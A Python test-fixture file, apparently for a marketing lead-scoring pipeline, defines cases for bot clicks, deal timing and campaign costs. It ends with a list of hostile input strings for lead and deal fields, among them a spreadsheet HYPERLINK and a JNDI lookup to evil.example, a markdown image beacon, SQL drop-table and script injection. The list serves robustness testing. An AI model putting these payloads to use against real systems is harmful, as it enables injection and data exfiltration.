        event_type="unsubscribed",
        user_agent="Barracuda Sentinel (EE)",
        occurred_at="2026-03-03 09:00:01",
        is_automated="true",
    ),
    said={"lead_scores.penalty_points": -50},
    ledger={("email_events", "used"): 1},
    health=(("opt_out_like_scanner", "email_events", "event_type", 1),),
)
add(
    "opt-outs",
    "an opt-out in other words",
    lambda life: life.copy("email_events", 1, event_id="e9-#", event_type="opt-out #"),
    ledger={("email_events", "not_a_signal"): 1},
    unmapped=(("email_events", "event_type", "opt-out #"),),
)

# Pages.
cells(
    *("pages", "web_events", "page_path"),
    ["https://www.example.com/Pricing?a=b", "/en-us/pricing", "/PRICING/", " /pricing "],
    number=1,
)
cells(
    "pages",
    "web_events",
    "page_url",
    ["HTTP://EXAMPLE.COM/Pricing", "//x.com/en/pricing"],
    number=1,
)

# Machines: what they do is not engagement.


def burst(life: Life) -> None:
    """Six clicks within a second."""
    for number in range(6):
        life.copy("email_events", 1, event_id=f"e1{number}-#", occurred_at="2026-03-03 12:00:00")


add("machines", "a burst of clicks", burst, ledger={("email_events", "scanner"): 6})
add(
    "machines",
    "a click right after the delivery",
    doubled("email_events", 1, event_id="e9-#", occurred_at="2026-03-03 09:00:04"),
    ledger={("email_events", "scanner"): 1},
)
add(
    "machines",
    "an out-of-office reply",
    doubled(
        "email_events", 1, event_id="e9-#", event_type="replied", occurred_at="2026-03-03 09:00:20"
    ),
    ledger={("email_events", "automated"): 1},
)
add(
    "machines",
    "an automated open",
    doubled(
        "email_events",
        1,
        event_id="e9-#",
        event_type="opened",
        is_automated="Y",
        occurred_at="2026-03-03 11:00:00",
    ),
    ledger={("email_events", "automated"): 1},
)
add(
    "machines",
    "a crawler",
    doubled("web_events", 2, event_id="w9-#", user_agent="Mozilla/5.0 (compatible; Googlebot/2.1)"),
    ledger={("web_events", "bot"): 1},
)
add(
    "machines",
    "a form sent twice",
    doubled("marketing_activities", 1, activity_id="m9-#", occurred_at="2026-03-05 15:00:02"),
    ledger={("marketing_activities", "double_submit"): 1},
)

# Deals.
add(
    "deals",
    "entered after it was won",
    lambda life: life.set("opportunities", created_at="2026-04-15 10:00:00"),
    said={
        "lead_stages.opportunity_at": "2026-04-10 12:00:00",
        "lead_stages.customer_at": "2026-04-10 12:00:00",
    },
    quarantined=(("opportunities", "late created_at"),),
)
add(
    "deals",
    "a planned close",
    lambda life: life.set("opportunities", is_closed="", is_won="", closed_at="2026-06-30"),
    said={"lead_stages.stage": "opportunity"},
    quarantined=(("opportunities", "planned closed_at"),),
)
add(
    "deals",
    "closed without is_won",
    lambda life: life.set("opportunities", is_won=""),
    said={"lead_stages.customer_at": None},
)
add("deals", "closed without a time", lambda life: life.set("opportunities", closed_at=""))
add(
    "deals",
    "closed without any time",
    lambda life: life.set("opportunities", closed_at="", updated_at=""),
    said=WITHOUT_DEAL,
    ledger=DEAL_LOST,
    health=DEAL_IS_NOT_THERE,
    quarantined=(("opportunities", "missing closed_at"),),
)
add(
    "deals",
    "closed after the clock",
    lambda life: life.set("opportunities", closed_at="2027-01-01"),
    said={"lead_stages.stage": "opportunity"},
)
add(
    "deals",
    "open, with a time to close and a word of it",
    lambda life: life.set("opportunities", is_closed="no"),
    said={"lead_stages.stage": "opportunity"},
)


def colleague(life: Life) -> None:
    """Another contact of the deal."""
    life.copy("leads", lead_id="with-#", email="with-#@#.com", account_id="a-#")
    life.copy("opportunity_contacts", lead_id="with-#", is_primary="false")


add(
    "deals",
    "a colleague on the deal",
    colleague,
    ledger={("leads", "used"): 1, ("opportunity_contacts", "used"): 1},
    said={"account_engagement.leads": 2},
)

# Costs, each in a month of its own.
COSTS: list[tuple[Mutation, str]] = []


def costs(name: str, rows: list[dict[str, str]], total: str, **outcome: Any) -> None:
    """Declare costs of a campaign in a month of their own, and what they add up to."""
    month = f"20{10 + len(COSTS) // 12}-{len(COSTS) % 12 + 1:02}"

    def change(life: Life) -> None:
        life.rows["campaign_costs"] = []
        for row in rows:
            life.rows["campaign_costs"].append(
                {"campaign_id": f"k-{life.name}", "cost_date": f"{month}-10", **row}
            )

    add("costs", name, change, **outcome)
    COSTS.append((MUTATIONS[-1], total))


A_COST = {"cost": "300"}
SEVERAL_COSTS = ("campaign_costs", "several costs on one day")
costs(
    "two different costs of a day",
    [A_COST, {"cost": "200"}],
    "500",
    ledger={("campaign_costs", "used"): 1},
    quarantined=(SEVERAL_COSTS, SEVERAL_COSTS),
)
costs("a cost of a day twice", [A_COST, A_COST], "300", ledger={("campaign_costs", "repeated"): 1})
costs(
    "a credit",
    [{"cost": "500"}, {"cost": "-120.50"}],
    "379.5",
    ledger={("campaign_costs", "used"): 1},
    quarantined=(SEVERAL_COSTS, SEVERAL_COSTS),
)
costs(
    "a correction that came later",
    [
        {"cost": "500", "received_at": "2026-01-01 00:00:00"},
        {"cost": "450", "received_at": "2026-01-02 00:00:00"},
    ],
    "450",
    ledger={("campaign_costs", "superseded"): 1},
)
costs("a currency and separators", [{"cost": "EUR 1,300.00"}], "1300")
costs(
    "an unreadable cost",
    [A_COST, {"cost": "a lot"}],
    "300",
    ledger={("campaign_costs", "unusable"): 1},
    quarantined=(("campaign_costs", "unreadable cost"),),
)
costs(
    "an empty cost",
    [A_COST, {"cost": ""}],
    "300",
    ledger={("campaign_costs", "unusable"): 1},
    quarantined=(("campaign_costs", "missing cost"),),
)
costs(
    "a cost of an unreadable day",
    [A_COST, {"cost": "5", "cost_date": "10/2026"}],
    "300",
    ledger={("campaign_costs", "unusable"): 1},
    quarantined=(("campaign_costs", "unreadable cost_date"),),
)
costs(
    "a planned cost",
    [A_COST, {"cost": "5", "cost_date": "2027-01-10"}],
    "300",
    ledger={("campaign_costs", "after_as_of"): 1},
)
costs("a cost with a time of day", [{"cost": "10", "cost_date": "2010-10-10T10:00:00Z"}], "10")

# Text that somebody may read, or run.
HOSTILE = [
    '=HYPERLINK("http://evil.example","x")',
    "'; drop table leads; --",
    "<script>alert(1)</script>",
    "![x](http://evil.example/x.png)",
    "{{ env_var('HOME') }}",
    "{% raw %}",
    "\\",
    '"quoted"',
    "line\nbreak",
    "tab\there",
    "\u202egnp.exe",
    "\U0001f600",
    "%s%n%x",
    "${jndi:ldap://evil.example}",
    "x" * 20_000,
    "\x1b[31mred",
    "a,b;c|d",
    "'",
    "#1",
    "\x07",
    "-- comment",
    "$1",
    "\u0000".replace("\u0000", "\x01"),
]
for text in HOSTILE:
    add(
        "hostile text",
        f"first and company name {text[:20]!r}",
        lambda life, text=text: life.set("leads", first_name=text, company_name=text),
    )
for text in HOSTILE[:6]:
    add(
        "hostile text",
        f"name of a deal, asset and topic {text[:20]!r}",
        lambda life, text=text: (
            life.set("opportunities", name=text),
            life.set("intent_signals", topic=text),
        ),
    )
